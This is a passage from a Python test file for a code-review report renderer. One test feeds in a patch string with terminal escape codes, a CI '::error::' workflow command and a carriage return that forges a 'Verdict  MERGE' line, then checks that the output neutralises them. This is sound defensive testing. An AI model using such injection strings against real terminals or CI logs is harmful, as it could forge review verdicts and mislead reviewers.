        "patch: applies, not proven to fix it (it brings another defect) (2 lines): diffcourt fix F1"
        in text
    )


def test_no_line_of_a_patch_forges_a_line_of_the_report_or_moves_the_cursor() -> None:
    hostile = "--- a/b\n+++ b/b\n@@ -1 +1 @@\n-a\n+\x1b[2J::error::x\rVerdict  MERGE\n"
    given = verdict(findings=(fixed(1, patch=hostile), fixed(2, patch="\ud800\nVerdict  MERGE")))
    text = render_verdict(given, detail="verbose")
    assert "\x1b" not in text
    assert r"+\x1b[2J::error::x\rVerdict  MERGE" in text
    assert not re.search(r"^\s{0,7}(Verdict  MERGE|::error)", text, re.MULTILINE)
    text.encode()


def test_patches_do_not_make_a_report_longer_than_its_bound() -> None:
    many = tuple(
        fixed(n, title=f"{n} defect", severity=level)
        for n, level in enumerate(["critical"] * 20 + ["medium"] * 20, 1)
    )
    text = render_verdict(verdict(findings=many, verdict="block"))
    assert text.count("\n") <= 100
    assert "patch: verified by" in text
